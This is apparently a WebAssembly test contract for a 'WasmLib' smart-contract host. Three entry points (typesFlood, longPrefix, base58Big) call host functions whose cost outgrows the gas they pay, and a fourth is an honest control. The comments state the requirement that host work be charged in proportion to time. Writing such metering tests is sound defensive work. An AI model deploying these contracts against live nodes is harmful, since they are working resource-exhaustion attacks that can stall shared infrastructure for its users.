;; Attack: WasmLib (v0.2.0) calls whose host work grows faster than the gas they pay, until the gas
;; runs out (the default request budget):
;;   fn:typesFlood          state; then again and again: a new 4-byte key id and an existence test of
;;                          it in the state (each first use records the key's type in the object)
;;   fn:longPrefix          a new map; under it a map whose key is 60,000 bytes; then again and again an
;;                          existence test of key "x" in that nested map (its path is 60,000 bytes)
;;   fn:base58Big           the utility's base58 encoding of 40,000 bytes, once (charged per byte)
;;   fn:ok                  honest
;; Host must: charge host work in proportion to its time (no host call may cost more time per gas than
;; a few times plain Wasm): each of these ends (out of gas, or done) in about the time its gas buys of
;; plain Wasm, not in seconds.
(module
  (import "WasmLib" "hostGetKeyID" (func $key (param i32 i32) (result i32)))
  (import "WasmLib" "hostGetObjectID" (func $obj (param i32 i32 i32) (result i32)))
  (import "WasmLib" "hostGetBytes" (func $get (param i32 i32 i32 i32 i32) (result i32)))
  (import "WasmLib" "hostSetBytes" (func $set (param i32 i32 i32 i32 i32)))
  (memory (export "memory") 2)

  ;; 0: the version string on_load sends with the version key; 16: the i64 1.
  (data (i32.const 0) "Rust:KEY_ZZZZZZZ")
  (data (i32.const 16) "\01\00\00\00\00\00\00\00")
  ;; 64: key "x".
  (data (i32.const 64) "x")
  ;; 1024: the entry point names.
  (data (i32.const 1024) "ok")
  (data (i32.const 1026) "typesFlood")
  (data (i32.const 1036) "longPrefix")
  (data (i32.const 1046) "base58Big")

  (func (export "on_load")
    (local $exp i32)
    (local.set $exp (call $obj (i32.const 1) (i32.const -20) (i32.const 0x2d)))
    (call $set (local.get $exp) (i32.const -43) (i32.const 13) (i32.const 0) (i32.const 16))
    (call $set (local.get $exp) (i32.const 0x0) (i32.const 13) (i32.const 1024) (i32.const 2))  ;; func ok
    (call $set (local.get $exp) (i32.const 0x1) (i32.const 13) (i32.const 1026) (i32.const 10))  ;; func typesFlood
    (call $set (local.get $exp) (i32.const 0x2) (i32.const 13) (i32.const 1036) (i32.const 10))  ;; func longPrefix
    (call $set (local.get $exp) (i32.const 0x3) (i32.const 13) (i32.const 1046) (i32.const 9))  ;; func base58Big
  )

  (func (export "on_call") (param $i i32)
    (if (i32.eq (local.get $i) (i32.const 0x0)) (then (call $ok) (return)))
    (if (i32.eq (local.get $i) (i32.const 0x1)) (then (call $typesFlood) (return)))
    (if (i32.eq (local.get $i) (i32.const 0x2)) (then (call $longPrefix) (return)))
    (if (i32.eq (local.get $i) (i32.const 0x3)) (then (call $base58Big) (return)))
    unreachable)

  ;; The contract's state (a call's objects are numbered in the order it asks: the first is 2).
  (func $state (result i32) (call $obj (i32.const 1) (i32.const -37) (i32.const 11)))
  ;; The key id of the `len` bytes at `ptr`, a string key.
  (func $k (param $ptr i32) (param $len i32) (result i32) (call $key (local.get $ptr) (local.get $len)))
  ;; The honest entry point: state "ok" = i64 1.
  (func $ok
    (call $set (call $state) (call $k (i32.const 1024) (i32.const 2)) (i32.const 10) (i32.const 16) (i32.const 8)))

  (func $typesFlood
    (local $s i32)
    (local $i i32)
    (local.set $s (call $state))
    (loop $l
      (local.set $i (i32.add (local.get $i) (i32.const 1)))
      (i32.store (i32.const 0x100) (local.get $i))
      (drop (call $get (local.get $s) (call $key (i32.const 0x100) (i32.const -5)) (i32.const 10) (i32.const 0) (i32.const -1)))
      (br $l)))

  (func $longPrefix
    (local $m i32)
    (local $x i32)
    (local.set $m (call $obj (call $obj (i32.const 1) (i32.const -27) (i32.const 0x2b)) (i32.const 0) (i32.const 11)))
    (local.set $m (call $obj (local.get $m) (call $key (i32.const 0x1000) (i32.const 60000)) (i32.const 11)))
    (local.set $x (call $k (i32.const 64) (i32.const 1)))
    (loop $l
      (drop (call $get (local.get $m) (local.get $x) (i32.const 3) (i32.const 0) (i32.const -1)))
      (br $l)))

  (func $base58Big
    (memory.fill (i32.const 0x1000) (i32.const 0xff) (i32.const 40000))
    (drop (call $get (call $obj (i32.const 1) (i32.const -41) (i32.const 11)) (i32.const -5) (i32.const 0x40) (i32.const 0x1000) (i32.const 40000))))
)
